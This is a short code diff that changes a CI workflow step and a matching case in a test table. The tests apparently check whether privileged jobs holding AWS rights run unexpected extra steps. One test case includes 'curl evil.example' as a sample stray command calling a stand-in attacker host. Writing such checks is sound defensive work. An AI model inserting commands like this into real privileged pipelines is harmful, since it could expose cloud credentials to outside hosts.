@@ -20,7 +20,7 @@ jobs:
       - uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c
         with:
           role-to-assume: \${{ vars.WARREN_PLAN_ROLE }}
-      - run: exec node bin/warren github plan
+      - run: exec ./warren github plan
   look:
     runs-on: ubuntu-24.04
     permissions:
@@ -146,7 +146,7 @@ test.each([
   ],
   [
     'other steps beside rights',
-    'exec node bin/warren github plan',
+    'exec ./warren github plan',
     'curl evil.example',
     ['13: job plan, which has rights, does something else with them.'],
   ],
